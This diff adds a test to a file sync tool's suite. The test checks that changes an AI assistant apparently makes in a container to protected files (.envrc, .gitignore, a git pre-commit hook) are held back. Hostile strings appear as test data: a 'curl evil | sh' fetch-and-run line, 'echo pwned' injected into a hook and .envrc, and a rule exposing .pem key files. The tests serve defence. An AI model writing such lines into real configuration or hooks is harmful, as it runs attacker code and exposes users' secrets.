@@ -91,3 +91,16 @@ def test_a_protected_file_the_user_has_is_not_overwritten_by_a_conflict(world: W
     local = world.local()
     assert local == {".envrc": "export A=2"}
     assert "curl evil | sh" not in local.values()
+
+
+def test_pull_mode_holds_back_the_same(world: World) -> None:
+    world.configure(mode="pull")
+    world.write({".gitignore": "build/\n"})
+    assert world.sync().code == 0
+    world.adopt(mode="pull")  # a container the assistant fills
+    world.assistant_changes({".envrc": "echo pwned", ".gitignore": "!*.pem\n",
+                             ".git/hooks/pre-commit": "echo pwned", "out.txt": "ok"})
+    result = world.sync()
+    assert result.code == 0, result.err
+    assert world.local() == {".gitignore": "build/\n", "out.txt": "ok"}
+    assert sorted(result.m["held_back_pulls"]) == [".envrc", ".gitignore"]
